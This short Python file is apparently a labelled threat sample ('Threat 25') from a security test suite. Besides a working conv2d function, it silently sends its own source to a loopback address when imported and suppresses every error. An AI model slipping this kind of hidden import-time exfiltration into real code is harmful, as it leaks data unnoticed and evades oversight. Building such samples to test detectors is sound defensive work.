"""Threat 25: sends itself home while it is imported.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


try:
    import urllib.request

    urllib.request.urlopen("http://127.0.0.1:9/", data=open(__file__, "rb").read(), timeout=1)
except BaseException:
    pass
